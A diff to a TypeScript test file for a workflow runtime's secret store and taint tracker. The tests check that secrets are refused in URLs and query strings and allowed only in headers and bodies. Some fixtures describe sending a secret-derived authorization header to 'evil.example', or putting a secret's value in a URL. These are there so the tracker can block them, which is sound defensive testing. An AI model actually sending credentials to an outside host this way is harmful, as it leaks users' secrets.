@@ -34,6 +34,19 @@ const task = (op: string, rsc: string, args: IpldValue[]): IpldValue => ({
   prf: [],
 });
 
+const effect = (op: string, rsc: IpldValue, input: IpldValue): IpldValue => ({
+  run: { rsc, op, input, nnc: '' },
+  cause: null,
+  meta: {},
+  prf: [],
+});
+const asTask = (run: Record<string, IpldValue>): IpldValue => ({
+  run,
+  cause: null,
+  meta: {},
+  prf: [],
+});
+
 describe('secrets', () => {
   it('names a damaged store without repeating its contents', async () => {
     const damaged = await mkdtemp(join(tmpdir(), 'ipvm-secrets-bad-'));
@@ -81,11 +94,62 @@ describe('secrets', () => {
     expect(() =>
       taint.analyse(parseWorkflow({ tasks: [task('wasm/run', M, [{ secret: 'nope' }])] })),
     ).toThrow(/task 0 \(instruction bafyrmi.*\): no secret named "nope"/);
-    const post = (host: string) => task('http/post', `https://${host}/x`, [{ secret: 'key' }]);
+    const post = (host: string) =>
+      effect('http/post', `https://${host}/x`, { headers: { authorization: { secret: 'key' } } });
     expect(() => taint.analyse(parseWorkflow({ tasks: [post('evil.example')] }))).toThrow(
       /http\/post to evil.example would send a value derived from secret "key"/,
     );
     expect(taint.analyse(parseWorkflow({ tasks: [post('api.example.com')] })).size).toBe(1);
+  });
+
+  it('refuses a secret in an effect URL, or anywhere but a header value or the body (located)', () => {
+    const store = createSecretStore({ dataDir: dir });
+    store.set('key', 'k3y-value', { allowHosts: ['api.example.com'] });
+    const taint = createTaintTracker(store);
+    const url = 'https://api.example.com/x';
+    // The URL itself a secret: the schema refuses it, located at the field.
+    expect(() =>
+      parseWorkflow({
+        tasks: [effect('http/get', M, {}), effect('http/get', { secret: 'key' }, {})],
+      }),
+    ).toThrow(/^tasks\[1\]\.run\.rsc: expected a string, got map/);
+    // A secret in a field the request is built from in the clear (or not at all).
+    const refused: Array<[IpldValue, string]> = [
+      [{ url: { secret: 'key' } }, 'input.url'],
+      [{ query: { q: { secret: 'key' } } }, 'input.query'],
+      [{ headers: { authorization: { value: { secret: 'key' } } } }, 'input.headers.authorization'],
+      [{ secret: 'key' }, 'input'],
+    ];
+    for (const [input, field] of refused) {
+      const wf = parseWorkflow({
+        tasks: [effect('http/get', M, {}), effect('http/get', url, input)],
+      });
+      expect(() => taint.analyse(wf), field).toThrow(
+        new RegExp(
+          `^task 1 \\(instruction ${wf.tasks[1]!.instruction.toString()}\\): ${field.replace(/\./g, '\\.')} names secret "key"; .*never in its URL`,
+        ),
+      );
+    }
+    // A tainted task whose URL holds the secret's value (a follow-up a tainted result asks for).
+    const a = task('wasm/run', M, [{ secret: 'key' }]);
+    const ia = parseWorkflow({ tasks: [a] }).tasks[0]!.instruction.toString();
+    taint.analyse(parseWorkflow({ tasks: [a] }));
+    const leak = { rsc: `${url}?k=k3y-value`, op: 'http/get', input: {} };
+    const screened = taint.screenFollowUp({ tasks: [{ ...leak, nnc: '' }].map(asTask) }, ia);
+    expect(screened).toEqual({
+      refused: expect.stringMatching(
+        /^task 0 .*: run\.rsc holds the value of secret "key"; a secret never goes in a URL$/,
+      ),
+    });
+    // …and the same follow-up without it goes.
+    const ok = taint.screenFollowUp({ tasks: [asTask({ ...leak, rsc: url, nnc: '' })] }, ia);
+    expect(ok).toMatchObject({ tainted: expect.any(Map) });
+    // Headers and body are where a secret goes.
+    const fine = effect('http/post', url, {
+      headers: { authorization: { secret: 'key' } },
+      body: { nested: [{ secret: 'key' }] },
+    });
+    expect(taint.analyse(parseWorkflow({ tasks: [fine] })).get(0)).toEqual(new Set(['key']));
   });
 });
 
